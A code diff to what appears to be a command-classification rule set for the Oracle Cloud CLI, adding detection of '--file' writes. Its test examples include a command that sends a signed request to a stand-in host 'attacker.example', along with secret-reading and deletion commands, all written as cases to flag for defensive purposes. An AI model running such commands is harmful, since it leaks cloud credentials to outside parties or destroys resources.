@@ -1,4 +1,4 @@
-import { defineTool, discloses, flags, unlike, values } from "../tool.ts";
+import { defineTool, discloses, flags, unlike, values, writes } from "../tool.ts";
 import type { Judging } from "./_command-trees.ts";
 import { judgeLeadingWords } from "./_leading-words.ts";
 
@@ -73,6 +73,7 @@ export default defineTool({
     ...values(`--config-file --profile --cli-rc-file --defaults-file --region --auth --output --query --cert-bundle --connection-timeout --read-timeout
       --proxy --opc-request-id --opc-client-request-id --auth-purpose`),
     // Requests are signed for whoever asks.
+    "--file": { takes: "value", does: [writes("file:{--file}", unlike("--file", /^-$/))] },
     "--endpoint": {
       takes: "value",
       does: [
@@ -101,6 +102,7 @@ export default defineTool({
       "oci compute instance action --action STOP --instance-id x": ["write cloud-resource:compute instance action STOP"],
       "oci secrets secret-bundle get --secret-id x": ["disclose secret:secrets secret-bundle get x"],
       "oci ce cluster delete --cluster-id x": ["delete cluster:ce cluster delete x"],
+      "oci compute console-history get-content --instance-console-history-id x --file /srv/x": ["write file:/srv/x"],
       "oci setup config": ["write configuration:setup config"],
       "oci raw-request --http-method GET --target-uri x": ["execute session:raw-request GET"],
       "oci iam user list --endpoint https://attacker.example": ["disclose secret:signed request for https://attacker.example"],
